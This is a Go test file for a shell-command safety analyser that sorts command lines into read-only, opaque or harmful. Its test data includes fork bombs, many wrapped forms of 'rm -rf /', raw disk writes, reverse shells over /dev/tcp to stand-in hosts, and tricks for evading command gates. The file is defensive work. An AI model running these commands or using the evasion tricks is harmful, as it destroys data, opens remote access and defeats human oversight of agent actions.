package shell_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"jig/policy/shell"
	"jig/tool"
)

const (
	project = "/home/dev/proj"
	home    = "/home/dev"
)

func analyse(line string) *shell.Analysis {
	return shell.Analyse(line, shell.Options{Dir: project, Home: home})
}

func TestALineIsProvedToBeReadOnly(t *testing.T) {
	for _, line := range []string{
		"", "   ", "# only a comment", "\n\n",
		"ls -la", "ls; pwd", "ls\npwd", "ls && pwd || echo no", "ls | wc -l", "ls |& wc -l", "(ls)", "{ ls; }", "! ls", "ls &",
		"if test -f go.mod; then cat go.mod; else echo none; fi",
		"while false; do ls; done", "until true; do ls; done",
		"case x in a|b) ls;; *) pwd;; esac",
		"for i in 1 2 3; do echo $i; done",
		"for i in {1..3}; do echo $i; done",
		"for ((i=0; i<3; i++)); do echo $i; done",
		"i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done",
		"n=3; echo $((n * 2 + 1))",
		"x=go.mod; cat $x", `x="a b"; echo "$x"`, "dir=src && ls $dir",
		"cat $HOME/notes", "cat ~/notes", "cat \"$PWD/go.mod\"", "cat ${HOME}/notes",
		"echo $(date)", "echo `date`", "echo \"$(ls | wc -l) files\"", "diff <(sort a) <(sort b)",
		"cat <<EOF\nhello $HOME\nEOF", "cat <<'EOF'\n$(rm -rf /)\nEOF", "cat <<< hello", "cat < go.mod",
		"cat missing 2>/dev/null || echo none", "ls >/dev/null 2>&1", "ls &>/dev/null", "ls 2>&-", "echo x >&2",
		"time ls", "timeout 5 ls", "timeout -s KILL 5 ls", "nice -n 5 ls", "stdbuf -oL ls", "command ls", "command -v git",
		"env LANG=C ls", "LC_ALL=C sort go.mod", "NO_COLOR=1 ls", "GIT_PAGER=cat ls", "export LANG=C; ls",
		"bash -c 'ls | wc -l'", "sh -c 'ls'", "bash -c 'cat \"$1\"' _ go.mod", "bash <<'EOF'\nls\nEOF",
		"eval 'ls -la'", "eval ls -la",
		"cd src && cat main.go", "cd src; ls", "cd src || exit 1; ls", "(cd src && ls); cat go.mod", "pushd src && ls && popd && ls",
		"set -e; ls", "set -euo pipefail; ls", "true", ": ok", "printf '%s\\n' a b", `printf '%s\n' "$x"`,
		"test -d src && ls", "[ -f go.mod ] && cat go.mod", "[[ -f go.mod ]] && cat go.mod", `[ "$x" = y ] && ls`,
		"[[ $x == *.go ]] && ls", "[[ $x =~ ^a ]] && ls", "[[ $# -gt 0 ]] && ls",
		`while IFS= read -r f; do echo "$f"; done < list.txt`, `ls | while read -r f; do echo "$f"; done`,
		"echo {a,b}{1,2}", "echo \\$HOME", "echo '$(rm -rf /)'", "echo \"a > b\"", "echo $'tab\\there'",
		"/bin/ls", "/usr/bin/../bin/ls", "\\ls", "'ls'", "l\"s\"", "mapfile -t a < list.txt", "declare -a a=(1 2); ls", "local_x=1; ls",
		"echo ${#x}", `echo "${x:-none}"`, `echo "${x%.go}"`, `echo "${x^^}"`, `echo "${x//a/b}"`, `echo "${a[0]}"`, `echo "${a[@]}"`,
		"trap - EXIT; ls", "type ls", "hash", "umask", "jobs -l", "dirs", "alias", "history 5", "shopt -s nullglob; ls",
		"exec 2>/dev/null; ls", "wait", "let n=1+2; ls", "((n=1)); ls", "x=$(ls); echo \"$x\"",
	} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); !a.ReadOnly {
				t.Errorf("not read-only: %s\n%+v", a.Why, a)
			}
		})
	}
}

// Each of these ran code or changed something in one of the public gates, or
// would in a careless one.
func TestAnAttackIsNotReadOnly(t *testing.T) {
	for _, line := range attacks() {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); a.ReadOnly {
				t.Errorf("read-only: %+v", a)
			}
		})
	}
}

func TestWhatCannotBeListedIsOpaque(t *testing.T) {
	for _, line := range []string{
		"$cmd x", "$(which ls)", "`which ls`", "/usr/bin/l? x", "l{s,l}", "${x}ls", "~/bin/ls", "=ls", "$'ls'",
		"ls() { pwd; }; ls", "function f { ls; }; f", "alias ls=rm", "eval \"$x\"", "bash -c \"$x\"", "echo ls | bash", "bash", "bash -s",
		"PATH=. ls", "export PATH=.", "declare -x A1=1", "PS4='$(id)' ls", "FOO=bar make", "LD_PRELOAD=x ls", "IFS=/ ls", "IFS=/; ls",
		"trap 'ls' EXIT", "ls '", "if", "ls\x00", "ls\r", "ls \x1b[1m", "ls \u200b", "ls \u202e", "ls \U000e0041", "ls\u00a0x", "ls\u3000x", "ls \xff",
		"echo ${!x}", "echo ${x@P}", "echo ${x:=y}", "for PATH in .; do ls; done", "read PATH", "printf -v PATH x", "((PATH=1))",
		"ls {PATH}>/dev/null", "hash -p ./x ls", "enable -f ./x ls", "shopt -s expand_aliases", "set -a", "builtin eval \"$x\"",
		"env env env env env env env env env env ls", "zsh -c ls", "sh -c '[[ -f x ]]'", "sh -c 'echo {a,b}'", "sh -c \"echo $'x'\"",
		"echo @(a|b)", "coproc PATH { ls; }", "readonly x=1; x=2", "declare -r x=1", "declare -n x=PATH", "declare -i x=1", "\\declare x=1", "xargs bash -c", "ls | xargs -I{} sh -c {}",
		"env \"$x\" ls", "timeout $x ls", "sudo $x", "printf \"$x\"", "wait -p x", "jobs -x ls", "unset PATH", "getopts a PATH",
	} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); a.Opaque == "" || a.ReadOnly {
				t.Errorf("not opaque: %+v", a)
			}
		})
	}
}

func TestAnUnknownProgramIsDoubtfulAndNotOpaque(t *testing.T) {
	for _, line := range []string{"frobnicate build", "frobnicate a && frobnicate b", "./run.sh", "timeout 5 frobnicate", "bash run.sh", "cd src && frobnicate"} {
		t.Run(line, func(t *testing.T) {
			a := analyse(line)
			if a.Opaque != "" || a.ReadOnly {
				t.Errorf("%+v", a)
			}
			if !slices.ContainsFunc(a.Commands, func(c tool.Command) bool { return c.Doubt != "" }) {
				t.Errorf("no command has a doubt: %+v", a.Commands)
			}
		})
	}
}

func TestHarmIsSeenThroughEveryWrapping(t *testing.T) {
	for _, line := range []string{
		":(){ :|:& };:", "f(){ f|f& }; f", "bomb() { bomb & bomb; }; bomb", "a(){ b|b; }; b(){ a& }; a", "f(){ (f); f; }; f", "bash -c ':(){ :|:& };:'",
		"> /dev/sda", "echo x >/dev/nvme0n1", "cat x >| /dev/sda1", "ls &> /dev/mem", "ls > /dev/sd$x", "ls 1<>/dev/sda", "ls > /dev/./sda",
		"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "sh -i 5<> /dev/tcp/10.0.0.1/4242",
		"rm -rf /", "sudo rm -rf /", "sudo -u root -- rm -rf /", "env rm -rf /", "env -i A=1 rm -rf /", "timeout 5 rm -rf /", "nice -n 3 rm -rf /",
		"command rm -rf /", "exec rm -rf /", "builtin command rm -rf /", "bash -c 'rm -rf /'", "sh -xc 'rm -rf /'", "eval 'rm -rf /'", "eval rm -rf /",
		"zsh -c 'rm -rf /'", "bash <<< 'rm -rf /'", "bash <<EOF\nrm -rf /\nEOF", "sudo bash <<EOF\nrm -rf /\nEOF", "echo $(rm -rf /)", "echo `rm -rf /`", "cat <(rm -rf /)",
		"cat <<EOF\n$(rm -rf /)\nEOF", "x=$(rm -rf /)", "x=/; rm -rf $x", "x=/; rm -rf \"$x\"", "cmd=rm; $cmd -rf /", "$SUDO rm -rf /",
		"if true; then rm -rf /; fi", "for i in 1; do rm -rf /; done", "for d in /; do rm -rf $d; done", "while :; do rm -rf /; done", "case x in *) rm -rf /;; esac", "f() { rm -rf /; }",
		"! rm -rf /", "time rm -rf /", "coproc rm -rf /", "(rm -rf /)", "{ rm -rf /; }", "rm -rf / &", "ls | rm -rf /", "ls && rm -rf /", "ls || rm -rf /",
		"[[ -n $(rm -rf /) ]]", "echo $(( $(rm -rf /) + 1 ))", "a[$(rm -rf /)]=1", "declare x=$(rm -rf /)", "echo ${x:-$(rm -rf /)}", "echo ${x/a/$(rm -rf /)}", "echo x > $(rm -rf /)",
		"trap 'rm -rf /' EXIT", "watch 'rm -rf /'", "watch -n1 rm -rf /", "flock /tmp/l -c 'rm -rf /'", "flock /tmp/l rm -rf /", "script -qc 'rm -rf /' /dev/null", "busybox rm -rf /",
		"xargs rm -rf /", "xargs -0 -n1 rm -rf /", "parallel rm -rf {} ::: /", "strace -f rm -rf /", "chroot /x rm -rf /", "su -c 'rm -rf /'", "su root -c 'rm -rf /'", "nohup rm -rf /", "setsid rm -rf /",
		"env -S 'rm -rf /'", "env --nonsense rm -rf /", "sudo --nonsense x rm -rf /", "rm -rf /\n)", "rm -rf {/,x}", "r''m -rf /", "\\rm -rf /", "/bin/rm -rf /", "sh -c '\"$@\"' _ rm -rf /",
		"rm -rf /" + strings.Repeat(" ", 11_000), strings.Repeat(": ;", 250) + "rm -rf /",
		"cd / && rm -rf *", "cd /; rm -rf .", "rm \\\n-rf /", "{ rm,-rf,/; }; {rm,-rf,/}", "systemd-run rm -rf /", "cd .. && rm -rf .",
		"xargs --replace bash -c 'rm -rf / {}'", "bash -c \"rm -rf / $x\"", "echo \"${x:=$(rm -rf /)}\"", "case $(rm -rf /) in x) ;; esac", "for x in $(rm -rf /); do :; done", "select x in $(rm -rf /); do :; done",
	} {
		t.Run(line, func(t *testing.T) {
			if a := analyse(line); len(a.Harm) == 0 || a.ReadOnly {
				t.Errorf("no harm: %+v", a)
			}
		})
	}
}

func TestReadsAndWritesAreWhereTheShellWouldPutThem(t *testing.T) {
	for _, c := range []struct {
		line          string
		reads, writes []string
	}{
		{"cat go.mod", []string{project + "/go.mod"}, nil},
		{"cd src && cat a", []string{project + "/src/a"}, nil},
		{"cd src; cat a", []string{project + "/src/a", project + "/a"}, nil},
		{"cd src || exit; cat a", []string{project + "/src/a"}, nil},
		{"(cd src && cat a); cat b", []string{project + "/src/a", project + "/b"}, nil},
		{"cd /tmp && cd .. && cat a", []string{"/a"}, nil},
		{"cd && cat a", []string{home + "/a"}, nil},
		{"pushd /etc >/dev/null && cat a && popd && cat b", []string{"/etc/a", project + "/b"}, nil},
		{"echo x > out", nil, []string{project + "/out"}},
		{"echo x >> ~/out", nil, []string{home + "/out"}},
		{"cd .claude && echo '{}' > settings.json", nil, []string{project + "/.claude/settings.json"}},
		{"{ ls; } > out", []string{project}, []string{project + "/out"}},
		{"ls; { pwd; } > out; > other", []string{project}, []string{project + "/out", project + "/other"}},
		{"cat < in", []string{project + "/in"}, nil},
		{"env -C /etc cat passwd", []string{"/etc/passwd"}, nil},
		{"f=a.txt; cat $f", []string{project + "/a.txt"}, nil},
		{"for f in a b; do cat \"$f\"; done", []string{project}, nil},
		{"cat x/../y", []string{project + "/y", project + "/x"}, nil},
		{"cd link && cat ../y", []string{project + "/y", project + "/link"}, nil},
		{"bash -c 'cat $1' _ a", []string{project + "/a"}, nil},
		{"cat {a,b}", []string{project + "/a", project + "/b"}, nil},
		{"if cd src; then cat a; else cat b; fi", []string{project + "/src/a", project + "/b"}, nil},
	} {
		t.Run(c.line, func(t *testing.T) {
			a := analyse(c.line)
			if d := cmp.Diff(c.reads, a.Reads); d != "" {
				t.Errorf("reads (-want +got):\n%s", d)
			}
			if d := cmp.Diff(c.writes, a.Writes); d != "" {
				t.Errorf("writes (-want +got):\n%s", d)
			}
		})
	}
}

func TestCommandsAreListedOutermostFirst(t *testing.T) {
	a := analyse("sudo -u bob timeout 5 bash -c 'cat \"$1\" | head' _ go.mod && echo $(date)")
	var got []string
	for _, c := range a.Commands {
		got = append(got, strings.Join(c.Via, ">")+"|"+strings.Join(c.Argv, " "))
	}
	want := []string{
		`|sudo -u bob timeout 5 bash -c cat "$1" | head _ go.mod`,
		`sudo|timeout 5 bash -c cat "$1" | head _ go.mod`,
		`sudo>timeout|bash -c cat "$1" | head _ go.mod`,
		`sudo>timeout>bash|cat go.mod`,
		`sudo>timeout>bash|head`,
		`|echo $(date)`,
		`|date`,
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if a.Commands[5].Literal || !a.Commands[6].Literal {
		t.Error("echo $(date) is not literal, date is")
	}
}

func TestHostsOfRedirectionsAreListed(t *testing.T) {
	for line, want := range map[string][]string{
		"exec 3<>/dev/tcp/evil.example/80":   {"evil.example:80"},
		"echo x > /dev/udp/evil.example/53":  {"evil.example:53"},
		"echo x > /dev/tcp/$host/80":         {"*"},
		"cat < /dev/tcp/evil.example/80":     {"evil.example:80"},
		"ls >& /dev/tcp/evil.example/80 2>x": {"evil.example:80"},
	} {
		if d := cmp.Diff(want, analyse(line).Hosts); d != "" {
			t.Errorf("%s (-want +got):\n%s", line, d)
		}
	}
}

func TestAVeryLongLineIsNotLookedInto(t *testing.T) {
	a := analyse("echo " + strings.Repeat("x", 100_000))
	if a.ReadOnly || a.Opaque == "" {
		t.Errorf("%+v", a)
	}
}
